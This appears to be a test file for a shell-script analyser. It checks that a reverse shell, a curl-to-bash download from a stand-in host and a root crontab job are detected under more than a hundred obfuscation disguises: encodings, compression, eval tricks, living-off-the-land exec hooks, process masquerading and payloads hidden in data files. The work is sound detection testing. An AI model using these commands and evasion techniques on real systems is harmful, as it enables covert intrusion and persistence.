import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { traceOf } from '../../../testing/trace-of.ts';
import type { Story } from '../../story.ts';
import { literals, render, textOf } from '../../value.ts';

const host = '192.0.2.44';
const plain = {
  /** A reverse shell. */
  shell: `bash -i >& /dev/tcp/${host}/8443 0>&1`,
  /** A download that is run. */
  download: 'curl -s http://203.0.113.9/x.sh | bash',
  /** A job on the host. */
  job: 'echo "* * * * * root /opt/x" >> /mnt/etc/crontab',
} as const;

/** What the story says happens, of the three things above. */
function happens(story: Story): ReadonlySet<keyof typeof plain> {
  const found = new Set<keyof typeof plain>();
  for (const effect of story.effects) {
    if (effect.kind === 'connect' && effect.shell !== undefined && render(effect.to.host) === host) found.add('shell');
    if (effect.kind === 'run' && effect.from === 'fetched') {
      const fetched = story.effects[effect.fetched ?? -1];
      if (fetched?.kind === 'fetch' && literals(fetched.url).includes('203.0.113.9')) found.add('download');
    }
    if (effect.kind === 'schedule' && effect.outside !== undefined && textOf(effect.table) === '/mnt/etc/crontab')
      found.add('job');
  }
  return found;
}

async function effectsOf(script: string, files: Readonly<Record<string, string>> = {}): Promise<ReadonlySet<string>> {
  return happens(
    await traceOf({ cmd: ['/bin/bash', '/run.sh'], files: { '/run.sh': `#!/bin/bash\n${script}\n`, ...files } }),
  );
}

const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const quote = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;
const reversed = (text: string): string => [...text].reverse().join('');
const codes = (text: string): readonly number[] => [...Buffer.from(text)];

/** Ways to hide any code. */
const disguises: readonly (readonly [string, (code: string) => string])[] = [
  ['nothing', (code) => code],
  [
    'decoded into a file that is moved',
    (code) =>
      `printf %s ${base64(code)} > /opt/a.jpg; base64 -d /opt/a.jpg > /opt/b; mv /opt/b /opt/c; cp /opt/c /opt/d; bash /opt/d`,
  ],
  [
    'decoded from what tee wrote, into a folder',
    (code) =>
      `mkdir /opt/x; echo ${base64(code)} | tee /opt/a > /dev/null; ln /opt/a /opt/x; base64 -d /opt/x/a > /opt/y; sh /opt/y`,
  ],
  [
    'file written piece by piece in a group',
    (code) => `{ printf %s ${quote(code.slice(0, 9))}; printf %s ${quote(code.slice(9))}; } > /opt/g; bash /opt/g`,
  ],
  ['perl prints', (code) => `perl -e 'print pack("H*","${hex(code)}")' | bash`],
  ['perl -e joined', (code) => `perl -MMIME::Base64 -e'print decode_base64("${base64(code)}")' | bash`],
  ['ruby prints', (code) => `ruby -e 'puts ["${hex(code)}"].pack("H*")' | bash`],
  ['php prints', (code) => `php -r 'echo base64_decode("${base64(code)}");' | bash`],
  ['node prints', (code) => `node -e 'console.log(Buffer.from("${base64(code)}","base64").toString())' | bash`],
  ['lua prints', (code) => `lua -e 'io.write(string.char(${codes(code).join(',')}))' | bash`],
  [
    'counting loop over a reversed text',
    (code) => `s=${quote(reversed(code))}; o=; for ((i=\${#s}-1;i>=0;i--)); do o+="\${s:i:1}"; done; eval "$o"`,
  ],
  [
    'while with a counter',
    (code) =>
      `s=${quote(reversed(code))}; o=; i=\${#s}; while [ $i -gt 0 ]; do i=$((i-1)); o="$o\${s:$i:1}"; done; eval "$o"`,
  ],
  [
    'endless loop with a break',
    (code) =>
      `s=${quote(code)}; o=; i=0; while true; do [ $i -ge \${#s} ] && break; o="$o\${s:$i:1}"; ((i++)); done; eval "$o"`,
  ],
  ['until', (code) => `s=${quote(code)}; o=; until [ -z "$s" ]; do o="$o\${s:0:1}"; s="\${s:1}"; done; eval "$o"`],
  [
    'shift through arguments',
    (code) =>
      `set -- ${codes(code)
        .map((each) => each.toString(8))
        .join(' ')}; o=; while [ $# -gt 0 ]; do o="$o$(printf "\\\\$1")"; shift; done; eval "$o"`,
  ],
  [
    'read character by character',
    (code) =>
      `o=; while IFS= read -r -n1 c; do [ "$c" = '~' ] || o="$o\${c:- }"; done <<< ${quote([...code].join('~'))}; eval "$o"`,
  ],
  [
    'function that decodes one code',
    (code) =>
      `d() { printf "\\\\$(printf %03o "$1")"; }; o=; for c in ${codes(code).join(' ')}; do o="$o$(d $c)"; done; eval "$o"`,
  ],
  [
    'case as a table of letters',
    (code) =>
      `d() { case $1 in ${[...new Set(codes(code))].map((each) => `${each}) printf '\\${each.toString(8).padStart(3, '0')}';;`).join(' ')} esac; }; o=; for c in ${codes(code).join(' ')}; do o="$o$(d $c)"; done; eval "$o"`,
  ],
  [
    'associative array of letters',
    (code) =>
      `declare -A m=(${[...new Set(code)].map((each) => `[k${each.charCodeAt(0)}]=${quote(each)}`).join(' ')}); o=; for k in ${[...code].map((each) => `k${each.charCodeAt(0)}`).join(' ')}; do o="$o\${m[$k]}"; done; eval "$o"`,
  ],
  [
    'array filled out of order',
    (code) =>
      `${[...code]
        .map((each, at) => `a[${at}]=${quote(each)}`)
        .reverse()
        .join('; ')}; IFS=; eval "\${a[*]}"`,
  ],
  [
    'array written with indices',
    (code) => `a=([2]=${quote(code.slice(8))} [1]=${quote(code.slice(0, 8))}); eval "\${a[1]}\${a[2]}"`,
  ],
  ['mapfile', (code) => `mapfile -t l <<'E'\nnothing\n${code}\nE\neval "\${l[1]}"`],
  ['read -a', (code) => `IFS=@ read -r -a p <<< ${quote(code.replaceAll(' ', '@'))}; eval "\${p[*]}"`],
  [
    'read into several names',
    (code) => `IFS=_ read -r a b <<< ${quote(`${code.slice(0, 6)}_${code.slice(6)}`)}; eval "$a$b"`,
  ],
  ['declare -n', (code) => `x=${quote(code)}; declare -n r=x; eval "$r"`],
  ['declare -l', (code) => `declare -l x=${quote(code)}; eval "$x"`],
  ['${!x} twice', (code) => `x=${quote(code)}; y=x; z=y; w=\${!z}; eval "\${!w}"`],
  ['${x@P}', (code) => `x='$(${code.replaceAll("'", '')})'; : "\${x@P}"`],
  [
    '${x@E}',
    (code) =>
      `x='${codes(code)
        .map((each) => `\\x${each.toString(16)}`)
        .join('')}'; eval "\${x@E}"`,
  ],
  ['${x,,}', (code) => `x=${quote(code.toUpperCase())}; eval "\${x,,}"`],
  ['${x^^} of a part', (code) => `x=eval; y=EVAL; [ "\${x^^}" = "$y" ]; eval ${quote(code)}`],
  ['$_', (code) => `: ${quote(code)}; eval "$_"`],
  ['BASH_REMATCH', (code) => `[[ ${quote(`<${code}>`)} =~ ^.(.*).$ ]]; eval "\${BASH_REMATCH[1]}"`],
  ['eval of eval', (code) => `eval eval eval ${quote(quote(quote(code)))}`],
  ['source <(…)', (code) => `source <(printf '%s\\n' ${quote(code)})`],
  ['. /dev/stdin with a here-document', (code) => `. /dev/stdin <<'E'\n${code}\nE`],
  ['. /dev/fd/3', (code) => `. /dev/fd/3 3<<'E'\n${code}\nE`],
  ['bash /dev/fd/9', (code) => `exec 9<<'E'\n${code}\nE\nbash /dev/fd/9`],
  ['$(cat <&3)', (code) => `exec 3<<< ${quote(code)}; eval "$(cat <&3)"`],
  ['bash <<<', (code) => `bash <<< ${quote(code)}`],
  ['bash -c "$(cat <<E)"', (code) => `bash -c "$(cat <<'E'\n${code}\nE\n)"`],
  ['$(<file)', (code) => `printf %s ${quote(code)} > /tmp/.f; bash /tmp/.f`],
  ['tee, then run', (code) => `echo ${quote(code)} | tee /tmp/.g >/dev/null; chmod +x /tmp/.g; /tmp/.g`],
  ['coproc', (code) => `coproc bash -c ${quote(code)}`],
  ['exec -a', (code) => `exec -a '[kworker]' bash -c ${quote(code)}`],
  ['command -p, builtin', (code) => `command -p bash -c ${quote(`builtin eval ${quote(code)}`)}`],
  ['/???/b??h', (code) => `/???/b??h -c ${quote(code)}`],
  ['/b*n/[b]as[h]', (code) => `/b*n/[b]as[h] -c ${quote(code)}`],
  ['${PATH:0:1}', (code) => `x=\${PATH:0:1}; \${x}bin\${x}bash -c ${quote(code)}`],
  [
    'letters picked from a text',
    (code) => `l=abcdefghijklmnopqrstuvwxyz; \${l:1:1}\${l:0:1}\${l:18:1}\${l:7:1} -c ${quote(code)}`,
  ],
  ['the dynamic loader', (code) => `/lib64/ld-linux-x86-64.so.2 /bin/bash -c ${quote(code)}`],
  ['copy of the shell by cat', (code) => `cat /bin/bash > /tmp/k; chmod 755 /tmp/k; /tmp/k -c ${quote(code)}`],
  [
    'copy of the shell by dd',
    (code) => `dd if=/bin/bash of=/tmp/k2 2>/dev/null; chmod 755 /tmp/k2; /tmp/k2 -c ${quote(code)}`,
  ],
  ['copy of the shell by install', (code) => `install -m 755 /bin/bash /tmp/k3; /tmp/k3 -c ${quote(code)}`],
  ['hash -p', (code) => `hash -p /bin/bash ls; ls -c ${quote(code)}`],
  ['alias of eval', (code) => `shopt -s expand_aliases\nalias e=eval\ne ${quote(code)}`],
  ['function named like a program', (code) => `ls() { eval "$*"; }; ls ${quote(code)}`],
  ['recursive function', (code) => `r() { if [ "$1" = 0 ]; then eval ${quote(code)}; else r $(($1-1)); fi; }; r 3`],
  ['trap DEBUG', (code) => `trap ${quote(code)} DEBUG; :`],
  ['trap on error', (code) => `trap ${quote(code)} ERR; false`],
  ['PROMPT_COMMAND', (code) => `PROMPT_COMMAND=${quote(code)} bash -i`],
  ['parameter default', (code) => `: "\${CMD:=${code.replaceAll('"', '\\"')}}"; eval "$CMD"`],
  ['brace expansion', (code) => `{bash,-c,${quote(code)}}`],
  ['IFS splitting', (code) => `IFS=:; c=bash:-c; $c ${quote(code)}`],
  ['awk system()', (code) => `awk 'BEGIN{system("echo ${base64(code)} | base64 -d | sh")}'`],
  [
    'awk reverses',
    (code) => `echo ${quote(reversed(code))} | awk '{for(i=length($0);i>0;i--)printf "%s",substr($0,i,1)}' | sh`,
  ],
  [
    'awk joins columns',
    (code) => `eval "$(awk '{printf "%s%s",$2,$1}' RS= FS=@ <<'E'\n${code.slice(9)}@${code.slice(0, 9)}\nE\n)"`,
  ],
  [
    'sed y',
    (code) =>
      `echo ${quote(code.replace(/[abcxyz]/g, (each) => 'xyzabc'['abcxyz'.indexOf(each)] ?? each))} | sed 'y/abcxyz/xyzabc/' | sh`,
  ],
  [
    'sed takes noise out',
    (code) => `echo ${quote([...code].map((each) => `${each}%%`).join(''))} | sed 's/%%//g' | sh`,
  ],
  ['perl -pe', (code) => `echo ${quote([...code].map((each) => `${each}%%`).join(''))} | perl -pe 's/%%//g' | sh`],
  ['cut and paste', (code) => `eval "$(fold -w1 <<< ${quote(code)} | paste -sd '')"`],
  [
    'sorted lines',
    (code) =>
      `eval "$(sort -n <<'E' | cut -d@ -f2- | paste -sd ''\n${[...code]
        .map((each, at) => `${at}@${each}`)
        .reverse()
        .join('\n')}\nE\n)"`,
  ],
  ['od and back', (code) => `for b in $(od -An -v -tx1 <<< ${quote(code)}); do o="$o\\x$b"; done; printf "$o" | sh`],
  ['xxd -r of a dump', (code) => `xxd -r <<'E' | sh\n${dumpOf(code)}E`],
  ['base32', (code) => `basenc --base32 -d <<< ${base32(code)} | sh`],
  ['base16', (code) => `basenc --base16 -d <<< ${hex(code).toUpperCase()} | sh`],
  ['rev of base64 of gzip', (code) => `echo ${reversed(base64(gzipSync(code)))} | rev | base64 -d | zcat | sh`],
  ['tr by a table', (code) => `tr 'a-mn-z' 'n-za-m' <<< ${quote(rot13(code))} | bash`],
  ['expr substr', (code) => `x=$(expr substr xxbashxx 3 4); $x -c ${quote(code)}`],
  ['vim -c', (code) => `vim -es -c ':!${code.replaceAll('"', '')}' -c ':q'`],
  ['ed', (code) => `ed -s <<'E'\n!${code}\nq\nE`],
  ['find -exec', (code) => `find /run.sh -exec bash -c ${quote(code)} \\;`],
  [
    'tar --checkpoint-action',
    (code) => `tar cf /dev/null /run.sh --checkpoint=1 --checkpoint-action=exec=${quote(code)}`,
  ],
  ['git core.pager', (code) => `git -c core.pager=${quote(code)} -p help`],
  ['git alias', (code) => `git -c alias.x=${quote(`!${code}`)} x`],
  ['ssh ProxyCommand', (code) => `ssh -o ProxyCommand=${quote(code)} x`],
  ['GIT_SSH_COMMAND', (code) => `GIT_SSH_COMMAND=${quote(code)} git clone git@host.invalid:x`],
  ['make --eval', (code) => `make -s --eval=$'x:\\n\\t-'${quote(code.replaceAll('$', '$$'))}`],
  ['apt hook', (code) => `apt-get update -o APT::Update::Pre-Invoke::=${quote(code)}`],
  ['zip -TT', (code) => `zip /tmp/x.zip /etc/hosts -T -TT ${quote(code)}`],
  ['gdb', (code) => `gdb -nx -ex ${quote(`!${code}`)} -ex quit`],
  ['sqlite', (code) => `sqlite3 /dev/null ${quote(`.shell ${code}`)}`],
  ['split --filter', (code) => `split --filter=${quote(code)} /dev/stdin`],
  ['tmux', (code) => `tmux new-session -d ${quote(code)}`],
  ['script', (code) => `script -qc ${quote(code)} /dev/null`],
  ['xargs -I', (code) => `printf '%s\\n' ${quote(code.replaceAll('"', ''))} | xargs -I@ bash -c '@'`],
  ['xargs bash -c', (code) => `printf '%s\\0' ${quote(code)} | xargs -0 -n1 bash -c`],
  ['env -i -S', (code) => `env -i bash -c ${quote(code)}`],
  [
    'python filter',
    (code) =>
      `echo ${reversed(base64(code))} | python3 -c "import sys,base64;print(base64.b64decode(sys.stdin.read().strip()[::-1]).decode())" | sh`,
  ],
  ['python prints it', (code) => `eval "$(python3 -c "print(bytes.fromhex('${hex(code)}').decode())")"`],
  ['busybox ash', (code) => `busybox ash -c ${quote(code)}`],
  ['zsh -c', (code) => `zsh -c ${quote(code)}`],
  ['nohup setsid &', (code) => `(nohup setsid bash -c ${quote(code)} &) >/dev/null 2>&1`],
];

function base32(text: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  const bits = codes(text)
    .map((each) => each.toString(2).padStart(8, '0'))
    .join('');
  return (bits.match(/.{1,5}/g) ?? []).map((each) => alphabet[Number.parseInt(each.padEnd(5, '0'), 2)]).join('');
}

function rot13(text: string): string {
  return text.replace(/[a-z]/g, (each) => String.fromCharCode(((each.charCodeAt(0) - 97 + 13) % 26) + 97));
}

function dumpOf(text: string): string {
  const bytes = codes(text);
  let out = '';
  for (let at = 0; at < bytes.length; at += 16) {
    const row = bytes.slice(at, at + 16).map((each) => each.toString(16).padStart(2, '0'));
    const pairs = (row.join('').match(/.{1,4}/g) ?? []).join(' ');
    out += `${at.toString(16).padStart(8, '0')}: ${pairs.padEnd(40)} ${'.'.repeat(row.length)}\n`;
  }
  return out;
}

describe.each(disguises)('hidden by %s', (_name, hide) => {
  test.each(['shell', 'download', 'job'] as const)('the same effect: %s', async (wanted) => {
    expect([...(await effectsOf(hide(plain[wanted])))]).toContain(wanted);
  });
});

/** Made by the real programs from the reverse shell above. */
const packed = {
  bzip2: 'QlpoOTFBWSZTWbuB57IAAA/ZgAAQQQP8YT5gTQAgACKDRoBpoDQoABoGTIHQT2ShrVnLgl2zIwgthgQ00aQ6nPeenxdyRThQkLuB57I=',
  xz: '/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAoYmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjQ0Lzg0NDMgMD4mMQoAAAAAjB3rk3V59XYAAUEpA1NWix+2830BAAAAAARZWg==',
  lzma: 'XQAAgAD//////////wAxGErNKOk8nxdnDRiYHokgkQQK5eXwlbSO10xoTIW0MNEv41EcTLJ1dVD6Df//6CzgAA==',
  zstd: 'KLUv/QRYSQEAYmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjQ0Lzg0NDMgMD4mMQpN+dKk',
  uu: 'begin 644 -\nI8F%S:"`M:2`^)B`O9&5V+W1C<"\\Q.3(N,"XR+C0T+S@T-#,@,#XF,0H`\n`\nend\n',
  openssl: 'U2FsdGVkX1/wMzuKqYhIq4TqSxqy6PNXHKMchttt5iHCf0YTHJx+afdnU1f/cpx7cMpmsRv5WTSDIjhuJR2ZoQ==',
  tarGz:
    'H4sIAAAAAAACA+3KMQ7CMBBEUdecYqt02OtkiaDJXZKAFKog23B+Ag0SBVQgkP5rZjWzyefJfZguWrN7Lp5TdRMf962P2mjrRN0XnHPpk4hL81xe/b3b/9TQ50nWR+kqCfvDJZTxFOKu9uprbxa2Zo1oV8WVAwAAAAAAAAAAAAAAAAD8kisdOgogACgAAA==',
} as const;

/** Spellings of one of the three, each as it is. */
const spellings: readonly (readonly [string, keyof typeof plain, string])[] = [
  ['bzip2', 'shell', `echo ${packed.bzip2} | base64 -d | bzip2 -dc | sh`],
  ['bzcat of a here-string', 'shell', `base64 -d <<< ${packed.bzip2} | bzcat | sh`],
  ['xz', 'shell', `echo ${packed.xz} | base64 -d | xz -d | sh`],
  ['unlzma', 'shell', `echo ${packed.lzma} | base64 -d | unlzma | sh`],
  ['zstd', 'shell', `echo ${packed.zstd} | base64 -d | zstd -dc | sh`],
  ['uudecode', 'shell', `uudecode -o /dev/stdout <<'E' | sh\n${packed.uu}E`],
  [
    'openssl -pbkdf2',
    'shell',
    `echo ${packed.openssl} | openssl enc -d -aes-256-cbc -pbkdf2 -a -A -pass pass:word | sh`,
  ],
  ['redirections of a function call', 'shell', `f() { bash "$@"; }; f -i >& /dev/tcp/${host}/8443 0>&1`],
  ['function that runs its arguments', 'job', 'd() { "$@"; }; d echo "* * * * * root /opt/x" >> /mnt/etc/crontab'],
  [
    'alias of what reads a here-document',
    'job',
    "shopt -s expand_aliases\nalias z=cat\nz >> /mnt/etc/crontab <<'E'\n* * * * * root /opt/x\nE",
  ],
  ['tar xzO', 'shell', `echo ${packed.tarGz} | base64 -d | tar xzO | sh`],
  ['tar member', 'shell', `base64 -d <<< ${packed.tarGz} | tar -xzOf - r.sh | sh`],
  ['address as an integer', 'shell', 'bash -i >& /dev/tcp/3221226028/8443 0>&1'],
  ['address in hexadecimal', 'shell', 'bash -i >& /dev/tcp/0xc000022c/8443 0>&1'],
  ['address in octal', 'shell', 'bash -i >& /dev/tcp/0300.0.02.054/8443 0>&1'],
  ['port by arithmetic', 'shell', `bash -i >& /dev/tcp/${host}/$((8000+443)) 0>&1`],
  ['descriptors', 'shell', `exec 5<>/dev/tcp/${host}/8443; bash -i <&5 >&5 2>&5`],
  ['curl under another name', 'download', 'cp /usr/bin/curl /tmp/x; /tmp/x -s http://203.0.113.9/x.sh | bash'],
  ['curl by a link', 'download', 'ln -s /usr/bin/curl /tmp/y; /tmp/y -s http://203.0.113.9/x.sh | bash'],
  ['curl by which -a', 'download', 'c=$(which -a curl); $c -s http://203.0.113.9/x.sh | bash'],
  ['curl by an alias', 'download', "alias g='curl -s'\ng http://203.0.113.9/x.sh | bash"],
  ['curl by command -v', 'download', '$(command -v curl) -s http://203.0.113.9/x.sh | $(command -v bash)'],
  [
    'address put together',
    'download',
    'for o in 203 0 113 9; do a="$a${a:+.}$o"; done; curl -s "http://$a/x.sh" | bash',
  ],
  ['download, then run', 'download', 'curl -so /tmp/a http://203.0.113.9/x.sh; chmod +x /tmp/a; /tmp/a'],
  [
    'download under a name built from parts',
    'download',
    'd=/tm; d+=p/.a; curl -so $d http://203.0.113.9/x.sh && sh $d',
  ],
  ['$(curl …)', 'download', 'bash -c "$(curl -s http://203.0.113.9/x.sh)"'],
  ['<(curl …)', 'download', 'bash <(curl -s http://203.0.113.9/x.sh)'],
  ['source <(curl …)', 'download', 'source <(curl -s http://203.0.113.9/x.sh)'],
  ['tee of the table', 'job', 'echo "* * * * * root /opt/x" | tee -a /mnt/etc/crontab'],
  ['table by a variable', 'job', 't=/mnt/etc; echo "* * * * * root /opt/x" >> $t/cron""tab'],
  ['here-document', 'job', "cat >> /mnt/etc/crontab <<'E'\n* * * * * root /opt/x\nE"],
];

describe('spelled otherwise', () => {
  test.each(spellings)('%s', async (_name, wanted, script) => {
    expect([...(await effectsOf(script))]).toContain(wanted);
  });
});

describe('spread over files', () => {
  test('a download in one script and its run in another', async () => {
    const files = {
      '/opt/a.sh': 'curl -so /tmp/.p http://203.0.113.9/x.sh; chmod +x /tmp/.p',
      '/opt/b.sh': '/tmp/.p',
    };
    expect([...(await effectsOf('sh /opt/a.sh; sh /opt/b.sh', files))]).toContain('download');
  });
  test('scripts of a folder, run one by one', async () => {
    const files = { '/docker-entrypoint.d/10-a.sh': plain.shell, '/docker-entrypoint.d/20-b.sh': plain.job };
    const loop = 'for f in /docker-entrypoint.d/*.sh; do . "$f"; done';
    expect([...(await effectsOf(loop, files))].sort()).toEqual(['job', 'shell']);
    const found = 'find /docker-entrypoint.d -type f -name "*.sh" | sort | while read -r f; do bash "$f"; done';
    expect([...(await effectsOf(found, files))].sort()).toEqual(['job', 'shell']);
  });
  test('a payload in a file of data', async () => {
    const files = { '/usr/share/data.txt': base64(plain.shell), '/usr/share/logo.png': reversed(plain.job) };
    expect([...(await effectsOf('base64 -d /usr/share/data.txt | sh', files))]).toContain('shell');
    expect([...(await effectsOf('eval "$(rev < /usr/share/logo.png)"', files))]).toContain('job');
    expect([...(await effectsOf('x=$(</usr/share/data.txt); echo $x | base64 -d | sh', files))]).toContain('shell');
  });
});
